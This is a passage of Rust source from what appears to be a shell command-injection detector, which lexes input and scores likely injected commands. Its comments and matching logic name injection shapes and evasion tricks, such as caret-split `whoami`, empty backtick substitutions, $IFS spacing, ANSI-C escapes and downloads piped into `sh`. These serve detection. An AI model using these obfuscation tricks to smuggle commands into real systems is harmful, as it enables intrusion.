    fn sep(&mut self, toks: &mut Vec<Tok<'a>>, kind: SepKind, space_before: bool) {
        let space_after = matches!(self.at(self.i), Some(b' ' | b'\t'));
        self.push(
            toks,
            Tok::Sep {
                kind,
                space_before,
                space_after,
            },
        );
    }

    fn take_char(&mut self, w: &mut Word<'a>) {
        // An ASCII byte is a whole char on a boundary: no decoding.
        if self.b.get(self.i).is_some_and(u8::is_ascii) {
            if w.text.len() < MAX_WORD {
                w.push_src(self.s, self.i, self.i + 1);
            }
            self.i += 1;
            return;
        }
        match self.s.get(self.i..).and_then(|r| r.chars().next()) {
            Some(ch) => {
                if w.text.len() < MAX_WORD {
                    w.push_src(self.s, self.i, self.i + ch.len_utf8());
                }
                self.i += ch.len_utf8();
            }
            None => self.i += 1,
        }
    }

    /// Takes the character at `self.i` (which the caller's arm accepted) and then the ASCII
    /// bytes after it that `plain` accepts, exactly as one [`Self::take_char`] per character
    /// would (same `MAX_WORD` cap), in one copy. `plain` must accept only bytes that the
    /// caller's loop hands to `take_char` unconditionally.
    #[inline]
    fn take_run(&mut self, w: &mut Word<'a>, plain: impl Fn(u8) -> bool) {
        let first_ascii = self.b.get(self.i).is_some_and(u8::is_ascii);
        if !first_ascii {
            self.take_char(w);
        }
        let from = self.i;
        let skip = usize::from(first_ascii);
        let n = skip
            + self
                .b
                .get(from + skip..)
                .unwrap_or(&[])
                .iter()
                .take_while(|&&c| c.is_ascii() && plain(c))
                .count();
        if n == 0 {
            return;
        }
        // ASCII bytes are whole characters: `from + room` is a char boundary.
        let room = MAX_WORD.saturating_sub(w.text.len()).min(n);
        w.push_src(self.s, from, from + room);
        self.i = from + n;
    }

    /// Lexes a word straight into its slot of `toks` (a `Word` is large: no moves), kept only
    /// if the token budget allows it once the word's own substitutions are lexed, as
    /// [`Self::push`] decides.
    fn push_word(
        &mut self,
        toks: &mut Vec<Tok<'a>>,
        end: End,
        depth: u8,
        start_quote: Option<u8>,
        ifs: bool,
    ) {
        toks.push(Tok::Word(Word::at(self.i)));
        if let Some(Tok::Word(w)) = toks.last_mut() {
            w.ifs = ifs;
            self.word(w, end, depth, start_quote);
        }
        if self.budget > 0 {
            self.budget -= 1;
        } else {
            toks.pop();
        }
    }

    /// Lexes the word starting at `self.i` into `w` (fresh from [`Word::at`]).
    fn word(&mut self, w: &mut Word<'a>, end: End, depth: u8, start_quote: Option<u8>) {
        if start_quote.is_none() && self.plain_word(w) {
            return;
        }
        self.word_by_char(w, end, depth, start_quote);
    }

    /// [`Self::word`] one character (or run of plain bytes) at a time.
    fn word_by_char(&mut self, w: &mut Word<'a>, end: End, depth: u8, start_quote: Option<u8>) {
        let mut quote = start_quote;
        let mut text_at_open = 0;
        let mut hidden_pending = false;
        if quote.is_some() {
            w.starts_in_quote = true;
            w.quote_opens = 1;
        }
        loop {
            let Some(c) = self.at(self.i) else {
                if quote.is_some() && !w.starts_in_quote && w.text.len() == text_at_open {
                    w.tail_quote = true;
                }
                break;
            };
            let len_before = w.text.len();
            match quote {
                Some(b'\'') => {
                    if c == b'\'' {
                        quote = None;
                        self.i += 1;
                    } else if hidden_pending {
                        self.take_char(w);
                    } else {
                        self.take_run(w, |c| c != b'\'');
                    }
                }
                Some(_) => match c {
                    b'"' => {
                        quote = None;
                        self.i += 1;
                    }
                    b'\\' => {
                        self.i += 1;
                        if self.at(self.i) == Some(b'\n') {
                            self.i += 1;
                        } else if !matches!(self.at(self.i), Some(b'$' | b'`' | b'"' | b'\\')) {
                            w.text.to_mut().push('\\');
                        }
                    }
                    b'$' => self.dollar(w, depth, true, &mut hidden_pending),
                    b'`' if end == End::Backtick => break,
                    b'`' => self.backtick(w, depth),
                    _ => {
                        if hidden_pending {
                            self.take_char(w);
                        } else {
                            self.take_run(w, |c| !matches!(c, b'"' | b'\\' | b'$' | b'`'));
                        }
                    }
                },
                None => match c {
                    // `pi<()ng`: an empty process substitution inside a word hides a break.
                    b'<' | b'>'
                        if self.at(self.i + 1) == Some(b'(')
                            && self.at(self.i + 2) == Some(b')')
                            && self.i > w.start
                            && self.b[self.i - 1].is_ascii_alphanumeric()
                            && self
                                .at(self.i + 3)
                                .is_some_and(|c| c.is_ascii_alphanumeric()) =>
                    {
                        self.i += 3;
                        w.hidden_expansion = true;
                    }
                    b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b';' | b'|' | b'(' | b')'
                    | b'<' | b'>' => break,
                    b'&' => match entity_len(self.b, self.i) {
                        Some(n) => {
                            for _ in 0..n {
                                self.take_char(w);
                            }
                            w.unquoted_chars = true;
                        }
                        None => break,
                    },
                    b'\'' | b'"' => {
                        quote = Some(c);
                        w.quote_opens = w.quote_opens.saturating_add(1);
                        text_at_open = w.text.len();
                        self.i += 1;
                    }
                    b'\\' => {
                        self.i += 1;
                        match self.at(self.i) {
                            Some(b'\n') => self.i += 1,
                            Some(_) => {
                                w.escaped = true;
                                w.unquoted_chars = true;
                                self.take_char(w);
                            }
                            None => {}
                        }
                    }
                    // cmd.exe drops a caret before any character: `w^ho^ami`, `^w^h^o`.
                    b'^' if (self.i == w.start || self.b[self.i - 1].is_ascii_alphanumeric())
                        && self
                            .at(self.i + 1)
                            .is_some_and(|c| c.is_ascii_alphanumeric()) =>
                    {
                        w.caret = true;
                        self.i += 1;
                    }
                    b'$' if ifs_len(self.b, self.i).is_some() => break,
                    b'$' => self.dollar(w, depth, false, &mut hidden_pending),
                    b'`' if end == End::Backtick => break,
                    b'`' => self.backtick(w, depth),
                    _ => {
                        w.unquoted_chars = true;
                        // The bytes that follow and reach this same arm, taken at once. Not
                        // while an expansion is pending: the check below runs per character.
                        if hidden_pending {
                            self.take_char(w);
                        } else {
                            self.take_run(w, unquoted_plain);
                        }
                    }
                },
            }
            if hidden_pending && w.text.len() > len_before && len_before > 0 {
                w.hidden_expansion = true;
            }
        }
        if !w.text.is_empty() && w.substs.iter().any(|s| s.toks.is_empty()) {
            w.hidden_expansion = true;
        }
        w.end = self.i;
    }

    /// Most words of prose and of URLs: a run of ASCII bytes that the loop of [`Self::word`]
    /// takes as they are ([`UNQUOTED_PLAIN`]), ended by white space, `;`, `|`, a parenthesis
    /// or the value's end. Read here as that loop reads it (one `take_run`: the text borrowed,
    /// cut at `MAX_WORD`, `unquoted_chars` set), without its per-character dispatch. False,
    /// with `w` and the position untouched, for any other word. `w` is fresh from
    /// [`Word::at`].
    fn plain_word(&mut self, w: &mut Word<'a>) -> bool {
        let from = self.i;
        let run = self
            .b
            .get(from..)
            .unwrap_or(&[])
            .iter()
            .take_while(|&&c| c.is_ascii() && unquoted_plain(c))
            .count();
        let to = from + run;
        let ends = matches!(
            self.at(to),
            None | Some(b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b';' | b'|' | b'(' | b')')
        );
        if run == 0 || !ends {
            return false;
        }
        // ASCII bytes are whole characters: `from + kept` is a char boundary.
        let kept = run.min(MAX_WORD);
        w.push_src(self.s, from, from + kept);
        w.unquoted_chars = true;
        self.i = to;
        w.end = to;
        true
    }

    fn backtick(&mut self, w: &mut Word<'a>, depth: u8) {
        if depth >= MAX_DEPTH {
            self.take_char(w);
            return;
        }
        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
        let prev = self.i.checked_sub(1).and_then(|j| self.at(j));
        if self.at(self.i + 1) == Some(b'`') && self.at(self.i + 2) == Some(b'`') {
            // "```": a markdown code fence, never a substitution.
            while self.at(self.i) == Some(b'`') {
                self.i += 1;
            }
            if w.text.len() + 3 <= MAX_WORD {
                w.text.to_mut().push_str("```");
            }
            return;
        }
        if self.at(self.i + 1) == Some(b'`') {
            // "``": an empty substitution between letters hides a word break (`pi``ng`);
            // elsewhere it is the reStructuredText/markdown literal delimiter.
            self.i += 2;
            // At a word's end only when no "``" opened a span in it ("``id``" is markup).
            let closes_word = !w.text.contains("``")
                && self
                    .at(self.i)
                    .is_none_or(|c| c.is_ascii_whitespace() || c == b';');
            if alnum(prev) && (alnum(self.at(self.i)) || closes_word) {
                w.hidden_expansion = true;
            } else if w.text.len() + 2 <= MAX_WORD {
                w.text.to_mut().push_str("``");
            }
            return;
        }
        self.i += 1;
        let toks = self.list(End::Backtick, depth + 1, None);
        // Touching a letter, a digit or another substitution (`a`b``, `x`y``z`).
        let touching = |c: Option<u8>| alnum(c) || c == Some(b'`');
        let glued = touching(prev) || touching(self.at(self.i));
        w.substs.push(Subst {
            kind: SubstKind::Backtick,
            toks,
            glued,
        });
    }

    /// At a `$`: substitution, arithmetic, parameter expansion, or a literal dollar.
    fn dollar(&mut self, w: &mut Word<'a>, depth: u8, in_dquote: bool, hidden_pending: &mut bool) {
        match self.at(self.i + 1) {
            Some(b'(') if self.at(self.i + 2) == Some(b'(') => {
                // Arithmetic: no commands inside; skip to the balancing "))".
                self.i += 3;
                let mut open = 2usize;
                while let Some(c) = self.at(self.i) {
                    self.i += 1;
                    match c {
                        b'(' => open += 1,
                        b')' => {
                            open -= 1;
                            if open == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
                w.var = true;
            }
            Some(b'(') if depth < MAX_DEPTH => {
                self.i += 2;
                let toks = self.list(End::Paren, depth + 1, None);
                w.substs.push(Subst {
                    kind: SubstKind::Dollar,
                    glued: true,
                    toks,
                });
            }
            Some(b'{') => {
                let close = self.b[self.i..].iter().take(64).position(|&c| c == b'}');
                match close {
                    Some(p) => {
                        let inner = &self.s[self.i + 2..self.i + p];
                        if w.text.len() < MAX_WORD {
                            let at = w.text.len();
                            let text = w.text.to_mut();
                            text.push('$');
                            text.push_str(inner);
                            w.var_span(at);
                        }
                        w.var = true;
                        self.i += p + 1;
                    }
                    None => self.take_char(w),
                }
            }
            Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') => {
                self.i += 2;
                *hidden_pending = true;
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let start = self.i;
                self.i += 1;
                while self
                    .at(self.i)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                {
                    self.i += 1;
                }
                if w.text.len() < MAX_WORD {
                    let at = w.text.len();
                    w.push_src(self.s, start, self.i);
                    w.var_span(at);
                }
                w.var = true;
            }
            Some(b'\'') if !in_dquote => self.ansi_c(w),
            // $"..." is a quote with a prefix.
            Some(b'"') if !in_dquote => self.i += 1,
            _ => self.take_char(w),
        }
    }
}

impl<'a> Lexer<'a> {
    /// `$'...'`: bash decodes `\xHH`, octal and letter escapes; attackers spell words with them.
    fn ansi_c(&mut self, w: &mut Word<'a>) {
        self.i += 2;
        w.quote_opens = w.quote_opens.saturating_add(1);
        while let Some(c) = self.at(self.i) {
            if c == b'\'' {
                self.i += 1;
                return;
            }
            if c != b'\\' {
                self.take_char(w);
                continue;
            }
            let (radix, max, skip) = match self.at(self.i + 1) {
                Some(b'x') => (16, 2, 2),
                Some(b'0'..=b'7') => (8, 3, 1),
                Some(e) => {
                    let ch = match e {
                        b'n' => '\n',
                        b't' => '\t',
                        b'r' => '\r',
                        _ => e as char,
                    };
                    if w.text.len() < MAX_WORD && e.is_ascii() {
                        w.text.to_mut().push(ch);
                    }
                    self.i += 2;
                    continue;
                }
                None => {
                    self.i += 1;
                    return;
                }
            };
            self.i += skip;
            let mut v: u32 = 0;
            let mut n = 0;
            while n < max {
                match self.at(self.i).and_then(|d| (d as char).to_digit(radix)) {
                    Some(d) => {
                        v = v * radix + d;
                        self.i += 1;
                        n += 1;
                    }
                    None => break,
                }
            }
            if let Some(ch) = char::from_u32(v).filter(|c| c.is_ascii() && n > 0) {
                w.escaped = true;
                w.unquoted_chars = true;
                if w.text.len() < MAX_WORD {
                    w.text.to_mut().push(ch);
                }
            }
        }
    }
}

/// Length of `$IFS`, `${IFS}` or `${IFS<modifier>}` at `i`, used by attackers as whitespace.
/// Bytes that an unquoted word takes as ordinary characters whatever surrounds them (the
/// fall-through arm of [`Lexer::word`]); `^` is left out because it may be a cmd.exe caret.
const UNQUOTED_PLAIN: [bool; 256] = {
    let mut t = [true; 256];
    let special = b" \t\n\r\x0b\x0c;|()<>&'\"\\^$`";
    let mut i = 0;
    while i < special.len() {
        t[special[i] as usize] = false;
        i += 1;
    }
    t
};

fn unquoted_plain(c: u8) -> bool {
    UNQUOTED_PLAIN[usize::from(c)]
}

fn ifs_len(b: &[u8], i: usize) -> Option<usize> {
    let r = b.get(i..)?;
    let ident = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
    if r.starts_with(b"${IFS") && !ident(r.get(5)) {
        let close = r.iter().take(24).position(|&c| c == b'}')?;
        return Some(close + 1);
    }
    if r.starts_with(b"$IFS") && !ident(r.get(4)) {
        return Some(4);
    }
    None
}

/// Length of an HTML entity (`&amp;`, `&#39;`, `&#x27;`) at `i`: its `&` is not a separator in
/// the raw view (the decoded view is inspected separately).
fn entity_len(b: &[u8], i: usize) -> Option<usize> {
    let r = b.get(i + 1..)?;
    let (body, need) = match r.first()? {
        b'#' if matches!(r.get(1), Some(b'x' | b'X')) => (2, 1),
        b'#' => (1, 1),
        c if c.is_ascii_alphabetic() => (0, 2),
        _ => return None,
    };
    let hex = body == 2;
    let run = r[body..]
        .iter()
        .take(12)
        .take_while(|c| {
            if body == 0 {
                c.is_ascii_alphanumeric()
            } else if hex {
                c.is_ascii_hexdigit()
            } else {
                c.is_ascii_digit()
            }
        })
        .count();
    (run >= need && run <= 10 && r.get(body + run) == Some(&b';')).then_some(1 + body + run + 1)
}

// ---------------------------------------------------------------------------------------------
// Analysis: command positions, candidates and their scores.

/// What precedes a separator.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Prefix {
    Start,
    Quote,
    Host,
    Single,
    Number,
    Other,
    Prose,
    UrlParam,
    /// A lone command word before the separator, and an attack tool after it (`time; visudo`,
    /// `echo | gcc`): two commands chained, where prose ("time; less is more") chains words.
    Command,
}

impl Prefix {
    fn base(self) -> f32 {
        match self {
            Prefix::Start => 0.5,
            Prefix::Quote => 0.45,
            Prefix::Host | Prefix::Single | Prefix::Command => 0.4,
            Prefix::Number | Prefix::Other => 0.3,
            Prefix::Prose => 0.15,
            Prefix::UrlParam => 0.1,
        }
    }

    fn describe(self) -> &'static str {
        match self {
            Prefix::Start => "at the start of the value",
            Prefix::Quote => "after a closing quote",
            Prefix::Host => "after an address",
            Prefix::Single => "after a one-character value",
            Prefix::Number => "after a number",
            Prefix::Other => "after a non-prose token",
            Prefix::Prose => "after a word",
            Prefix::UrlParam => "after a query parameter",
            Prefix::Command => "after another command",
        }
    }
}

/// What put a word at a command position.
#[derive(Clone, Copy, Debug)]
enum Opener {
    ValueStart,
    Sep {
        kind: SepKind,
        prefix: Prefix,
        tight: bool,
    },
    Subst {
        kind: SubstKind,
        weak: bool,
    },
}

/// How the command word named its command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum How {
    Plain,
    AbsPath,
    Obfuscated(&'static str),
    Glob,
    Brace,
    Variable,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum ArgKind {
    Flag,
    Path,
    Expansion,
    Glob,
    Number,
    Host,
    File,
    Plain,
    Other,
}

#[derive(Debug)]
struct Scored {
    score: f32,
    evidence: Evidence,
}

/// Why a score was given. A command candidate keeps the parts of its explanation and writes the
/// text only for the score that is reported: most candidates are outscored or under the
/// threshold, and formatting costs more than scoring them.
#[derive(Debug)]
enum Evidence {
    Text(String),
    Command(Box<Why>),
}

impl From<&str> for Evidence {
    fn from(s: &str) -> Self {
        Evidence::Text(s.to_string())
    }
}

impl From<String> for Evidence {
    fn from(s: String) -> Self {
        Evidence::Text(s)
    }
}

impl Evidence {
    fn push_str(&mut self, tail: &'static str) {
        match self {
            Evidence::Text(t) => t.push_str(tail),
            Evidence::Command(w) => w.tails.push(tail),
        }
    }

    fn render(self) -> String {
        match self {
            Evidence::Text(t) => t,
            Evidence::Command(w) => w.render(),
        }
    }
}

/// The kinds of shell arguments a command has, each once, in the order first seen; held inline
/// (there are five kinds).
#[derive(Debug, Default)]
struct Labels {
    items: [&'static str; 5],
    len: usize,
}

impl Labels {
    fn add(&mut self, label: &'static str) {
        if !self.as_slice().contains(&label) {
            if let Some(slot) = self.items.get_mut(self.len) {
                *slot = label;
                self.len += 1;
            }
        }
    }

    fn as_slice(&self) -> &[&'static str] {
        &self.items[..self.len]
    }

    fn is_empty(&self) -> bool {
        self.len == 0
    }

    fn clear(&mut self) {
        self.len = 0;
    }
}

/// The parts of a command candidate's evidence, in the order they are written.
#[derive(Debug)]
struct Why {
    /// What put the word at a command position (the prefix as scored).
    opener: Opener,
    how: How,
    name: String,
    wrapper: Option<String>,
    tool: bool,
    ifs: bool,
    danger: Option<&'static str>,
    /// Kinds of shell arguments seen, in order (at most the five labels).
    strong: Labels,
    /// Only arguments shaped like a number, host or file.
    medium_only: bool,
    probe: bool,
    ending: Option<&'static str>,
    /// Text appended later, each with its own leading punctuation.
    tails: Vec<&'static str>,
}

impl Why {
    /// The parts joined with ", ", written into one buffer (no `format!`, no part copies).
    fn render(&self) -> String {
        let mut out = String::with_capacity(192);
        match self.opener {
            Opener::ValueStart => out.push_str("command at the start of the value"),
            Opener::Sep { kind, prefix, .. } => {
                out.push_str("separator '");
                out.push_str(kind.as_str());
                out.push_str("' ");
                out.push_str(prefix.describe());
            }
            Opener::Subst { kind, weak } => out.push_str(match kind {
                SubstKind::Dollar => "command substitution $(...)",
                SubstKind::Backtick if weak => "backtick span in prose",
                SubstKind::Backtick => "backtick substitution",
                SubstKind::Process => "process substitution",
            }),
        }
        out.push_str(", ");
        let quoted_name = |out: &mut String, before: &str| {
            out.push_str(before);
            out.push_str(&self.name);
            out.push('\'');
        };
        match self.how {
            How::Plain => quoted_name(&mut out, "command '"),
            How::AbsPath => {
                quoted_name(&mut out, "command '");
                out.push_str(" by absolute path");
            }
            How::Obfuscated(what) => {
                quoted_name(&mut out, "command '");
                out.push_str(" obfuscated with ");
                out.push_str(what);
            }
            How::Glob => {
                quoted_name(&mut out, "command '");
                out.push_str(" spelled as a glob");
            }
            How::Variable => {
                quoted_name(&mut out, "variable '");
                out.push_str(" (assigned in the value or naming the shell) run as the command");
            }
            How::Brace => {
                quoted_name(&mut out, "command '");
                out.push_str(" in a {cmd,arg} brace list");
            }
        }
        if let Some(wr) = &self.wrapper {
            out.push_str(" (through '");
            out.push_str(wr);
            out.push_str("')");
        }
        let mut part = |p: &str| {
            out.push_str(", ");
            out.push_str(p);
        };
        if self.tool {
            part("a tool attackers run");
        }
        if self.ifs {
            part("words split with $IFS");
        }
        if let Some(d) = self.danger {
            part(d);
        }
        if !self.strong.is_empty() {
            part("shell arguments (");
            for (k, l) in self.strong.as_slice().iter().enumerate() {
                if k > 0 {
                    out.push_str(", ");
                }
                out.push_str(l);
            }
            out.push(')');
        } else if self.medium_only {
            part("argument shaped like a number, host or file");
        }
        if self.probe {
            out.push_str(", a reconnaissance command with nothing after it");
        }
        if let Some(e) = self.ending {
            out.push_str(", ");
            out.push_str(e);
        }
        for t in &self.tails {
            out.push_str(t);
        }
        out
    }
}

struct Cand {
    scored: Scored,
    sep: Option<usize>,
    seg_end: usize,
    /// Reached by `|` and runs its input as code (`| sh`).
    interp_after_pipe: bool,
    /// Downloads a URL (`curl`, `wget`).
    fetcher: bool,
}

struct Analysis<'d, 'a> {
    det: &'d CmdiDetector,
    src: &'a str,
    table_row: bool,
    transcript: bool,
    globs: u32,
    /// Variable names assigned at command positions so far (`CMD=...`).
    assigned: Vec<String>,
    best: Option<Scored>,
}

impl Analysis<'_, '_> {
    fn list(&mut self, toks: &[Tok], start: Opener, top: bool) {
        let mut cands: Vec<Cand> = Vec::new();
        let mut opener: Option<(Opener, Option<usize>)> = Some((start, None));
        let mut seg_known = false;
        let mut redirect_target = false;
        let mut i = 0;
        while i < toks.len() {
            let after_redirect = std::mem::take(&mut redirect_target);
            match &toks[i] {
                Tok::Sep {
                    kind,
                    space_before,
                    space_after,
                } => {
                    let prefix = self.prefix(toks, i, *kind);
                    let tight = match kind {
                        SepKind::Semi | SepKind::DoubleSemi => !space_after,
                        SepKind::Newline => false,
                        _ => !(*space_before && *space_after),
                    };
                    opener = Some((
                        Opener::Sep {
                            kind: *kind,
                            prefix,
                            tight,
                        },
                        Some(i),
                    ));
                    seg_known = false;
                }
                // At a command position "(" opens a subshell and the position carries on;
                // elsewhere it is a call or a parenthesis in prose.
                Tok::LParen | Tok::Comment => {}
                Tok::Redirect => redirect_target = true,
                Tok::RParen => opener = None,
                Tok::Word(w) => {
                    // A line of prose is not a shell context for a backtick span (markdown).
                    let after_sep = match opener {
                        Some((Opener::Sep { kind, prefix, .. }, _)) => {
                            kind != SepKind::Newline
                                || matches!(prefix, Prefix::Start | Prefix::Quote | Prefix::Single)
                        }
                        Some((Opener::Subst { .. }, _)) => true,
                        _ => false,
                    };
                    let at_cmd = opener.is_some() && !after_redirect;
                    // The word after `<`, `>` is a file (also how `</script>` lexes); the
                    // command position carries on past it (`>f cmd`).
                    if let Some((op, sep)) = if at_cmd { opener.take() } else { None } {
                        if is_assignment(&w.text) {
                            if self.assigned.len() < 64 {
                                let name = w.text.split('=').next().unwrap_or("");
                                self.assigned.push(name.to_string());
                            }
                            opener = Some((op, sep));
                        } else if is_keyword(&w.text) {
                            opener = Some((op, sep));
                        } else if let Some(c) = self.candidate(toks, i, op, sep) {
                            seg_known = c.scored.score >= 0.3;
                            cands.push(c);
                        }
                    }
                    // A backtick span alone between spaces or punctuation in prose is a
                    // markdown or reStructuredText code span (`:meth:`x``, `` `x`_ ``).
                    let whole_value = top
                        && at_cmd
                        && w.text.is_empty()
                        && w.substs.len() == 1
                        && toks.iter().filter(|t| matches!(t, Tok::Word(_))).count() == 1;
                    for s in &w.substs {
                        let shell_like = s.glued
                            || is_assignment(&w.text)
                            || seg_known
                            || whole_value
                            || (after_sep && at_cmd && w.text.is_empty());
                        let weak = s.kind == SubstKind::Backtick && !shell_like;
                        self.list(&s.toks, Opener::Subst { kind: s.kind, weak }, false);
                    }
                }
            }
            i += 1;
        }
        for k in 1..cands.len() {
            let fed = cands[k - 1].seg_end;
            if cands[k].interp_after_pipe && cands[k].sep == Some(fed) {
                let (add, what) = if cands[k - 1].fetcher {
                    (0.5, ", a download piped into an interpreter")
                } else {
                    (0.35, ", another command's output piped into an interpreter")
                };
                cands[k].scored.score += add;
                cands[k].scored.evidence.push_str(what);
            }
        }
        for k in 0..cands.len() {
            // Lines of documentation follow each other; only shell separators chain commands.
            let next_follows = cands.get(k + 1).is_some_and(|n| {
                n.sep == Some(cands[k].seg_end)
                    && !matches!(
                        toks.get(cands[k].seg_end),
                        Some(Tok::Sep {
                            kind: SepKind::Newline,
                            ..
                        })
                    )
            });
            if next_follows {
                cands[k].scored.score += 0.1;
                cands[k]
                    .scored
                    .evidence
                    .push_str(", followed by another command");
            }
        }
        for c in cands {
            let mut s = c.scored;
            s.score = (s.score.clamp(0.0, 1.0) * 100.0).round() / 100.0;
            if self.best.as_ref().is_none_or(|b| s.score > b.score) {
                self.best = Some(s);
            }
        }
    }

    fn prefix(&self, toks: &[Tok], i: usize, kind: SepKind) -> Prefix {
        let glued = matches!(
            toks[i],
            Tok::Sep {
                space_before: false,
                ..
            }
        );
        // Blank lines do not make a line the start of the value.
        let mut j = i;
        while kind == SepKind::Newline
            && j > 0
            && matches!(
                toks[j - 1],
                Tok::Sep {
                    kind: SepKind::Newline,
                    ..
                }
            )
        {
            j -= 1;
        }
        let Some(prev) = j.checked_sub(1).and_then(|j| toks.get(j)) else {
            return Prefix::Start;
        };
        match prev {
            // A line after markup ("</h2>\n") is not the start of a value.
            Tok::Redirect if kind == SepKind::Newline => Prefix::Other,
            Tok::Sep { .. } | Tok::LParen | Tok::Redirect => Prefix::Start,
            Tok::RParen if glued && kind != SepKind::Newline => Prefix::Quote,
            Tok::RParen | Tok::Comment => Prefix::Other,
            Tok::Word(w) => self.classify_prefix(w, glued, kind),
        }
    }

    fn classify_prefix(&self, w: &Word, glued: bool, kind: SepKind) -> Prefix {
        if w.starts_in_quote && w.text.trim().is_empty() {
            return Prefix::Quote;
        }
        if kind == SepKind::Newline {
            // Lines of code end with quotes all the time; only a value that opens by closing a
            // quote counts (handled above).
            return match self.classify_prefix(w, false, SepKind::Semi) {
                Prefix::Quote => Prefix::Other,
                p => p,
            };
        }
        let raw = self.src.get(w.start..w.end).unwrap_or("");
        if (raw.ends_with('\'') || raw.ends_with('"')) && (glued || w.starts_in_quote) {
            return Prefix::Quote;
        }
        let mut t = &*w.text;
        if let Some(p) = t.bytes().rposition(|c| c == b'=') {
            if kind == SepKind::Amp {
                return Prefix::UrlParam;
            }
            t = &t[p + 1..];
            if t.is_empty() {
                return Prefix::Single;
            }
        }
        if is_host(t) {
            return Prefix::Host;
        }
        let mut chars = t.chars();
        if let (Some(c), None) = (chars.next(), chars.next()) {
            // "x|id" is shell; "R&D" and "Q&A" are initials; "1;id" is a numeric parameter.
            return if c.is_ascii_digit() {
                Prefix::Number
            } else if c.is_ascii_lowercase() || !c.is_alphanumeric() {
                Prefix::Single
            } else {
                Prefix::Prose
            };
        }
        if is_number(t) {
            Prefix::Number
        } else if is_prose_word(t) {
            Prefix::Prose
        } else {
            Prefix::Other
        }
    }

    fn candidate(
        &mut self,
        toks: &[Tok],
        i: usize,
        op: Opener,
        sep: Option<usize>,
    ) -> Option<Cand> {
        // The opener as the evidence describes it (a separator's prefix may be refined below).
        let mut shown = op;
        let seg_end = toks[i..]
            .iter()
            .position(|t| matches!(t, Tok::Sep { .. } | Tok::RParen))
            .map_or(toks.len(), |p| i + p);
        // A value that starts with markup ("<h2>...") is not a command line.
        if matches!(op, Opener::ValueStart) && i > 0 && matches!(toks.first(), Some(Tok::Redirect))
        {
            return None;
        }
        let (ci, name, how, wrapper) = self.resolve_at(toks, i, seg_end)?;
        // `sort(x)`, `file = open(p)`: a call or assignment in another language.
        match toks.get(ci + 1) {
            Some(Tok::LParen) => return None,
            Some(Tok::Word(a)) if ci + 1 < seg_end && is_code_operator(&a.text) => return None,
            _ => {}
        }
        let Tok::Word(cmd) = &toks[ci] else {
            return None;
        };

        let ctx = match op {
            Opener::ValueStart => 0.2,
            Opener::Sep {
                kind,
                prefix,
                tight,
            } => {
                // A spaced `&` joins words in prose ("cat & dig"); other separators rarely do.
                let chaining = match kind {
                    SepKind::Newline => false,
                    SepKind::Amp => tight,
                    _ => true,
                };
                let prefix = if prefix == Prefix::Prose
                    && chaining
                    && self.follows_lone_command(toks, sep, &name)
                {
                    Prefix::Command
                } else {
                    prefix
                };
                shown = Opener::Sep {
                    kind,
                    prefix,
                    tight,
                };
                let mut s = prefix.base();
                if tight {
                    s += 0.1;
                }
                if matches!(kind, SepKind::AndAnd | SepKind::OrOr) {
                    s += 0.05;
                }
                // "id=1; whoami": a statement separator after a number or address is rare in
                // prose ("Page 2 | more" uses a visual separator, not ';').
                if kind == SepKind::Semi && matches!(prefix, Prefix::Number | Prefix::Host) {
                    s += 0.1;
                }
                if kind == SepKind::Newline {
                    // Lines of prose, code and documentation start with command-like words;
                    // only a newline at the start or after a bare address or number is shell.
                    s = match prefix {
                        Prefix::Start => 0.5,
                        Prefix::Quote => 0.45,
                        Prefix::Host | Prefix::Single | Prefix::Number => 0.3,
                        _ => 0.05,
                    };
                }
                s
            }
            Opener::Subst { kind, weak } => match (kind, weak) {
                (_, true) => 0.3,
                (SubstKind::Backtick, false) => 0.7,
                _ => 0.75,
            },
        };
        let mut score = ctx;
        score += match how {
            How::Plain => 0.0,
            How::AbsPath => 0.25,
            How::Obfuscated(_) | How::Glob | How::Brace => 0.35,
            How::Variable => 0.2,
        };
        let value_start = matches!(op, Opener::ValueStart);
        if let Some(wr) = &wrapper {
            if value_start {
                // "sudo id", "nohup whoami": a wrapper only ever wraps a command.
                score += if builtins::STRONG_WRAPPERS.contains(&wr.as_str())
                    || builtins::sqlite_shell(wr)
                {
                    0.2
                } else {
                    0.1
                };
            }
        }
        // After a bare number, address, one-character value or closing quote (`1 | whoami`,
        // `x\nwhoami`), what follows the separator is the command an injection appends, as at
        // the start of a value.
        let after_data = matches!(
            op,
            Opener::Sep {
                prefix: Prefix::Number | Prefix::Host | Prefix::Single | Prefix::Quote,
                ..
            }
        );
        let tool = (value_start || after_data) && self.det.tools && is_tool(&name);
        if tool {
            score += 0.15;
        }
        // Lower-cased without a copy when already lower case (most names).
        let lower = lower_case(&name);
        let lname: &str = lower.strip_suffix(".exe").unwrap_or(&lower);

        // Arguments.
        let mut strong = Labels::default();
        let (mut medium, mut plain, mut nargs) = (false, 0usize, 0usize);
        let mut ifs = cmd.ifs;
        let mut comment = false;
        let mut danger: Option<&'static str> = None;
        let mut prev_flag_code = false;
        for t in &toks[ci + 1..seg_end] {
            match t {
                Tok::Word(a) => {
                    nargs += 1;
                    ifs |= a.ifs;
                    let raw = self.src.get(a.start..a.end).unwrap_or("");
                    if let Some(d) = dangerous_arg(lname, a, raw, prev_flag_code) {
                        danger.get_or_insert(d);
                    }
                    prev_flag_code = is_code_flag(lname, &a.text);
                    let label = match arg_kind(a, raw) {
                        ArgKind::Flag => Some("flag"),
                        ArgKind::Path => Some("path"),
                        ArgKind::Expansion => Some("expansion"),
                        ArgKind::Glob => Some("glob"),
                        ArgKind::Number | ArgKind::Host | ArgKind::File => {
                            medium = true;
                            None
                        }
                        ArgKind::Plain => {
                            plain += 1;
                            None
                        }
                        ArgKind::Other => None,
                    };
                    if let Some(l) = label {
                        strong.add(l);
                    }
                }
                Tok::Redirect => {
                    nargs += 1;
                    strong.add("redirection");
                }
                Tok::Comment => {
                    comment = true;
                    break;
                }
                _ => {}
            }
        }
